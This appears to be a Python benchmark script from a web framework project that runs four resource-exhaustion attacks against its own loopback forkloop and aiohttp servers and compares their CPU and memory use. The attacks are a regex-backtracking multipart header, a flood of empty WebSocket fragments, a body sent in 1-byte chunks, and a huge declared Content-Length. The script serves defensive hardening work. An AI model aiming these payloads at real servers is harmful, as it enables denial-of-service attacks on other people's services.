"""Hostile-input benchmark (issue 15): attacks 1-4 against forkloop and aiohttp, side by side.

Each attack runs against a fresh single-process server (uvloop for both), on loopback, bounded
in time and size; the script reports the server process's CPU time spent on the attack and its
peak RSS (``VmHWM``), and how it answered. Attacks:

1. multipart parameters: 5 requests whose part header is ``name=a<16,000 spaces>x``
   (quadratic for a backtracking parameter regex);
2. WebSocket: one message of 300,000 empty continuation frames (1.8 MB on the wire);
3. a body of 1.1 MB sent as 1-byte chunks to a handler that reads it (413 past 1 MiB);
4. ``Content-Length: 1000000000`` to a handler that reads: the 413, whether it says
   ``Connection: close``, and how long until the server closes while the client keeps sending.

Usage: ``.venv/bin/python bench/hostile.py [--json FILE]``. Exit status 1 if forkloop uses more
CPU or memory than aiohttp on an attack (CPU within 10 ms and RSS within 1 MB count as equal:
the noise of one measurement). Starts and stops only its own server processes, by PID.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

HOST = "127.0.0.1"
SERVERS = ("forkloop", "aiohttp")
CLK_TCK = os.sysconf("SC_CLK_TCK")
ATTACK_TIMEOUT_S = 60.0

# -- the servers (run as `hostile.py --serve KIND PORT`) -----------------------------------------


def serve(kind: str, port: int) -> None:
    """A minimal app on ``kind``'s server: the handlers the attacks aim at."""
    import uvloop

    if kind == "forkloop":
        from forkloop import web
    else:
        from aiohttp import web  # type: ignore[no-redef]

    async def form(request: Any) -> Any:
        data = await request.post()
        return web.Response(text=",".join(sorted(data)))

    async def read(request: Any) -> Any:
        body = await request.read()
        return web.Response(text=str(len(body)))

    async def ws(request: Any) -> Any:
        sock = web.WebSocketResponse()
        await sock.prepare(request)
        async for msg in sock:
            if msg.type == web.WSMsgType.BINARY:
                await sock.send_bytes(msg.data[:16])
        return sock

    async def main() -> None:
        app = web.Application()
        app.router.add_post("/form", form)
        app.router.add_post("/read", read)
        app.router.add_get("/ws", ws)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, HOST, port).start()
        print("ready", flush=True)
        await asyncio.sleep(3600)

    uvloop.run(main())


# -- measuring a server process ------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind((HOST, 0))
        port: int = sock.getsockname()[1]
        return port


def cpu_s(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLK_TCK  # utime + stime


def status_kb(pid: int, key: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(key + ":"):
            return int(line.split()[1])
    raise KeyError(key)


class Server:
    def __init__(self, kind: str) -> None:
        self.kind = kind
        self.port = free_port()
        self.proc = subprocess.Popen(
            [sys.executable, __file__, "--serve", kind, str(self.port)],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
        )

    def wait_ready(self) -> None:
        assert self.proc.stdout is not None
        if self.proc.stdout.readline().strip() != b"ready":
            raise RuntimeError(f"{self.kind} server did not start")

    def stop(self) -> None:
        self.proc.kill()  # ours, by PID
        self.proc.wait()


# -- the attacks ---------------------------------------------------------------------------------


async def send_and_read(port: int, data: bytes, timeout_s: float = 30.0) -> bytes:
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(data)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), timeout_s)
    finally:
        writer.close()


async def attack_multipart(port: int) -> str:
    body = (
        b"--B\r\nContent-Disposition: form-data; name=a" + b" " * 16000 + b"x\r\n\r\nv\r\n--B--\r\n"
    )
    head = (
        b"POST /form HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=B\r\n"
        b"Connection: close\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n"
    )
    statuses = []
    for _ in range(5):
        response = await send_and_read(port, head + body)
        statuses.append(response.split(b" ", 2)[1].decode() if response else "closed")
    return "statuses " + ",".join(statuses)


def ws_frame(opcode: int, payload: bytes, fin: bool) -> bytes:
    mask = b"\x01\x02\x03\x04"
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return bytes([(0x80 if fin else 0) | opcode, 0x80 | len(payload)]) + mask + masked


async def attack_websocket(port: int) -> str:
    reader, writer = await asyncio.open_connection(HOST, port)
    writer.write(
        b"GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )
    await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    writer.write(ws_frame(2, b"a", fin=False))
    empty = ws_frame(0, b"", fin=False) * 10_000
    sent = 0
    try:
        for _ in range(30):
            writer.write(empty)
            await asyncio.wait_for(writer.drain(), 10)
            sent += 10_000
        writer.write(ws_frame(0, b"z", fin=True))
        await writer.drain()
        head = await asyncio.wait_for(reader.readexactly(2), 30)
        payload = await reader.readexactly(head[1] & 0x7F)
        if head[0] == 0x88:
            outcome = f"closed with {int.from_bytes(payload[:2], 'big')}"
        else:
            outcome = f"message accepted (frame {head[0]:#x} back)"
    except (ConnectionError, TimeoutError, asyncio.IncompleteReadError) as exc:
        outcome = f"connection ended ({type(exc).__name__})"
    finally:
        writer.close()
    return f"{sent} empty frames sent; {outcome}"


async def attack_tiny_chunks(port: int) -> str:
    size = 1_100_000
    head = (
        b"POST /read HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    )
    wire = head + b"1\r\nx\r\n" * size + b"0\r\n\r\n"
    try:
        response = await send_and_read(port, wire)
    except ConnectionError as exc:
        return f"connection ended ({type(exc).__name__})"
    return "status " + (response.split(b" ", 2)[1].decode() if response else "closed")


async def attack_declared_huge(port: int) -> str:
    reader, writer = await asyncio.open_connection(HOST, port)
    writer.write(b"POST /read HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n")

    async def keep_sending() -> None:
        chunk = b"y" * 65536
        with contextlib.suppress(ConnectionError):
            while True:
                writer.write(chunk)
                await writer.drain()

    start = time.monotonic()
    sender = asyncio.create_task(keep_sending())
    try:
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
        status = head.split(b" ", 2)[1].decode()
        close = "yes" if b"connection: close" in head.lower() else "no"
        answered = f"{time.monotonic() - start:.1f} s"
        try:
            while await asyncio.wait_for(reader.read(65536), 20):
                pass
            closed = f"after {time.monotonic() - start:.1f} s"
        except TimeoutError:
            closed = "not within 20 s of the answer"
        except ConnectionError:
            closed = f"reset after {time.monotonic() - start:.1f} s"
    except (TimeoutError, asyncio.IncompleteReadError, ConnectionError) as exc:
        return f"no answer ({type(exc).__name__})"
    finally:
        sender.cancel()
        await asyncio.gather(sender, return_exceptions=True)
        writer.close()
    return f"status {status} after {answered}, Connection: close {close}, closed {closed}"


ATTACKS = {
    "1 multipart params (5 x 16 KB spaces)": attack_multipart,
    "2 ws 300k empty fragments": attack_websocket,
    "3 1.1 MB body in 1-byte chunks": attack_tiny_chunks,
    "4 Content-Length 1e9, 413": attack_declared_huge,
}


def run_attack(kind: str, name: str) -> dict[str, Any]:
    server = Server(kind)
    try:
        server.wait_ready()
        pid = server.proc.pid
        time.sleep(0.3)
        rss0 = status_kb(pid, "VmRSS")
        cpu0 = cpu_s(pid)
        try:
            outcome = asyncio.run(asyncio.wait_for(ATTACKS[name](server.port), ATTACK_TIMEOUT_S))
        except Exception as exc:  # an attack that breaks the client is an outcome too
            outcome = f"client error {type(exc).__name__}: {exc}"
        time.sleep(0.3)
        return {
            "server": kind,
            "attack": name,
            "cpu_s": round(cpu_s(pid) - cpu0, 3),
            "rss_start_mb": round(rss0 / 1024, 1),
            "peak_rss_mb": round(status_kb(pid, "VmHWM") / 1024, 1),
            "outcome": outcome,
        }
    finally:
        server.stop()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--serve", nargs=2, metavar=("KIND", "PORT"), help=argparse.SUPPRESS)
    parser.add_argument("--json", type=Path, help="also write the results to this file")
    args = parser.parse_args()
    if args.serve:
        serve(args.serve[0], int(args.serve[1]))
        return 0
    rows = []
    ok = True
    print("| attack | server | CPU s | RSS start MB | peak RSS MB | outcome |")
    print("|---|---|---|---|---|---|")
    for name in ATTACKS:
        results = {kind: run_attack(kind, name) for kind in SERVERS}
        for kind in SERVERS:
            r = results[kind]
            rows.append(r)
            print(
                f"| {name} | {kind} | {r['cpu_s']} | {r['rss_start_mb']} | {r['peak_rss_mb']} "
                f"| {r['outcome']} |",
                flush=True,
            )
        ours, peer = results["forkloop"], results["aiohttp"]
        if ours["cpu_s"] > peer["cpu_s"] + 0.01 or ours["peak_rss_mb"] > peer["peak_rss_mb"] + 1:
            ok = False
            print(f"FAIL: forkloop above aiohttp on {name!r}", file=sys.stderr)
    if args.json:
        args.json.write_text(json.dumps(rows, indent=2) + "\n")
    print("PASS" if ok else "FAIL")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
